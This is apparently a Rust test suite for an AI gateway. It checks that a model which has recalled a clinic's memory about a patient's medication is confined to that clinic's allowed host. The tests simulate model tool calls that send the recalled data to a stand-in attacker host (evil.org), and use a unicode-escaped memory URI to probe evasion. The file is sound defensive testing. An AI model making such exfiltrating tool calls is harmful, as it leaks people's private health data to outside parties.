//! Whoever has read a room's memory reaches only where that room allows: from the memory, through every way in
//! which it is recalled, to the tool call that a model makes of it.

use crate::targets::{FACES, arguments_of, plain, streamed};
use serde_json::{Value, json};
use zos_tests::gateway::{Gateway, Scratch, client};
use zos_tests::{Provider, provider};

/// `clinic` remembers something, and lets nobody who read it reach anything but its own host.
async fn house(provider: &Provider) -> Gateway {
    Scratch::new()
        .acme("isolation: open\n")
        .file("contexts/clinic.yml", "targets: {allow: [clinic.org]}\n")
        .provider(provider)
        .start()
        .await
}

/// Asks a model about a text, and tells the status and the body.
async fn ask(gateway: &Gateway, path: &str, text: &str, is_streamed: bool) -> (u16, String) {
    let turn = json!([{"role": "user", "content": text}]);
    let body = match path {
        "/v1/responses" => json!({"model": "m", "input": text, "stream": is_streamed}),
        _ => json!({"model": "m", "max_tokens": 9, "messages": turn, "stream": is_streamed}),
    };
    let answer = gateway.post(path, body.to_string()).await;
    (answer.status().as_u16(), answer.text().await.unwrap())
}

/// What a client gets from every way in which a memory is recalled.
async fn recalled(gateway: &Gateway) -> Vec<(&'static str, String)> {
    let memory =
        json!({"context": "clinic", "text": "Ann Example takes the blue tablets.", "subject": "Ann"});
    let (status, added) = gateway.admin("POST", "/zos/v1/memory", Some(memory)).await;
    assert_eq!(status, 201, "{added}");
    let id = added["id"].as_str().or(added["item"]["id"].as_str()).unwrap();
    let mcp = async |method: &str, params: Value| {
        let message = json!({"jsonrpc": "2.0", "id": 1, "method": method, "params": params}).to_string();
        let answer: Value = gateway.post("/rooms/clinic/mcp", message).await.json().await.unwrap();
        let text = answer["result"]["content"][0]["text"].as_str();
        text.or(answer["result"]["contents"][0]["text"].as_str())
            .unwrap_or_else(|| panic!("{answer}"))
            .to_owned()
    };
    let tool = async |path: &str| {
        let input = json!({"command": "view", "path": path});
        let (status, answer) =
            gateway.admin("POST", "/zos/v1/memory/clinic/tool", Some(json!({"input": input}))).await;
        assert_eq!(status, 200, "{answer}");
        answer["text"].as_str().unwrap().to_owned()
    };
    let call = |name: &str, arguments: Value| json!({"name": name, "arguments": arguments});
    vec![
        ("search", mcp("tools/call", call("memory_search", json!({"query": "blue tablets"}))).await),
        ("history", mcp("tools/call", call("memory_history", json!({"id": id}))).await),
        ("resource", mcp("resources/read", json!({"uri": format!("zos://memory/clinic/{id}")})).await),
        ("memory tool, file", tool(&format!("/memories/{id}.md")).await),
        ("memory tool, list", tool("/memories").await),
    ]
}

#[tokio::test]
async fn a_memory_recalled_in_any_way_keeps_the_model_to_its_rooms_targets() {
    let provider = Provider::json("{}").await;
    let gateway = house(&provider).await;
    let ways = recalled(&gateway).await;
    for (way, text) in &ways[..4] {
        assert!(text.contains("blue tablets"), "{way}: {text}");
    }
    let mut count = gateway.records().len();
    for (way, text) in ways {
        for path in FACES {
            for (host, is_allowed) in [("evil.org", false), ("clinic.org", true)] {
                let arguments = json!({"url": format!("https://{host}/?q=blue")});
                provider.play(provider::json(200, &plain(path, "fetch", &arguments)));
                let (status, answer) = ask(&gateway, path, &text, false).await;
                assert_eq!(status, if is_allowed { 200 } else { 502 }, "{way} {path} {host}: {answer}");
                provider.play(provider::events(&[streamed(path, "fetch", &arguments).as_bytes()]));
                let (_, answer) = ask(&gateway, path, &text, true).await;
                assert_eq!(
                    arguments_of(&answer).contains("blue"),
                    is_allowed,
                    "{way} {path} {host}: {answer}"
                );
                count += 2;
                let records = gateway.wait_records(count).await;
                for record in &records[count - 2..] {
                    assert_eq!(
                        (&record["context"], &record["recalled"]),
                        (&json!("acme"), &json!(["clinic"]))
                    );
                    let verdict = if is_allowed { "allow" } else { "deny" };
                    assert_eq!(record["verdict"], verdict, "{way} {path} {host}: {record}");
                    assert!(!record.to_string().contains("evil"), "{record}");
                }
            }
        }
    }
}

#[tokio::test]
async fn a_mark_stays_with_its_conversation() {
    let provider = Provider::json(&plain(FACES[1], "fetch", &json!({"url": "https://acme.com"}))).await;
    let gateway = house(&provider).await;
    let call = async |text: &str, session: Option<&str>| {
        let body = json!({"model": "m", "messages": [{"role": "user", "content": text}]});
        let mut request =
            client().post(format!("{}/v1/chat/completions", gateway.url)).body(body.to_string());
        if let Some(session) = session {
            request = request.header("x-zos-conversation", session);
        }
        request.header("content-type", "application/json").send().await.unwrap().status().as_u16()
    };
    let recalled = "Source: zos://memory/clinic/01J";
    assert_eq!(call("hi", Some("a")).await, 200);
    assert_eq!(call(recalled, None).await, 502);
    assert_eq!(call("hi", None).await, 200);
    assert_eq!(call(recalled, Some("a")).await, 502);
    assert_eq!(call("hi", Some("a")).await, 502);
    assert_eq!(call("hi", Some("b")).await, 200);
}

#[tokio::test]
async fn a_room_that_was_read_and_cannot_be_used_allows_nothing() {
    let provider = Provider::json(&plain(FACES[1], "fetch", &json!({"url": "https://clinic.org"}))).await;
    let gateway = Scratch::new()
        .acme("isolation: open\n")
        .file("contexts/broken.yml", "isolation: [\n")
        .file("memory/gone/2026/a.md", "The blue tablets.\n")
        .provider(&provider)
        .start()
        .await;
    for (text, status) in [
        ("zos://memory/broken/1", 502),
        ("zos://memory/gone/1", 502),
        // Only the caller knows this one.
        ("zos://memory/nobody/1", 200),
        (r"zos:\u002f\u002fmemory\u002fgone\u002f1", 502),
        ("hi", 200),
    ] {
        assert_eq!(ask(&gateway, FACES[1], text, false).await.0, status, "{text}");
    }
}
